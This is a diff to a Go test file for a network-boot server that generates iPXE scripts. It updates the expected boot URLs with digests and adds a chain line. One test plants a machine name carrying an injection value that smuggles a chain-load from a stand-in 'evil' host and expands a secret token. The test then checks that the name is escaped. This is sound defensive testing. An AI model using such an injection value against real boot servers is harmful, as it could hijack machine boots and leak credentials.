@@ -89,11 +89,12 @@ func TestScript(t *testing.T) {
 	}{
 		"/boot/52-54-00-00-00-01.ipxe": {"10.0.0.5", 200, []string{
 			"#!ipxe\n", "echo Sprout: web-01 boots the ramdisk to deploy\n", "boot attempt att_1\n",
-			"kernel http://10.0.0.1:8080/boot/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
-			"initrd --name initrd http://10.0.0.1:8080/boot/initrd ||",
+			"kernel http://10.0.0.1:8080/boot/" + digest("the kernel") + "/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
+			"initrd --name initrd http://10.0.0.1:8080/boot/" + digest("the initrd") + "/initrd ||",
 			"iseq ${buildarch} arm64 && goto arm64 ||",
-			"kernel http://10.0.0.1:8080/boot/arm64/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
-			"initrd --name initrd http://10.0.0.1:8080/boot/arm64/initrd ||",
+			"kernel http://10.0.0.1:8080/boot/" + digest("the arm64 kernel") + "/arm64/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
+			"initrd --name initrd http://10.0.0.1:8080/boot/" + digest("the arm64 initrd") + "/arm64/initrd ||",
+			"chain --replace http://10.0.0.1:8080/boot/52-54-00-00-00-01.ipxe || goto again",
 		}, "exit"},
 		"/boot/52:54:00:00:00:01.ipxe": {"10.0.0.5", 200, []string{"TOKEN1"}, "exit"},
 		"/boot/52-54-00-00-00-02.ipxe": {"10.0.0.101", 200, []string{"#!ipxe\n", "echo Sprout: db-01 has no boot intent", "exit 0", "exit 1"}, "token"},
@@ -142,7 +143,7 @@ func TestNamesAreNoCommands(t *testing.T) {
 	r.ledger.known[web01] = sprout.SiteMachine{ID: "mch_1", Name: "x\nchain http://evil && ${token}"}
 	w := r.do("GET", "/boot/52-54-00-00-00-01.ipxe", "10.0.0.5")
 	said, _, _ := strings.Cut(w.Body.String(), ":again")
-	if strings.Contains(w.Body.String(), "\nchain") || strings.Contains(said, "${") || strings.Contains(said, "&&") {
+	if strings.Contains(said, "\nchain") || strings.Contains(said, "${") || strings.Contains(said, "&&") {
 		t.Errorf("a name became a command:\n%s", w.Body)
 	}
 }
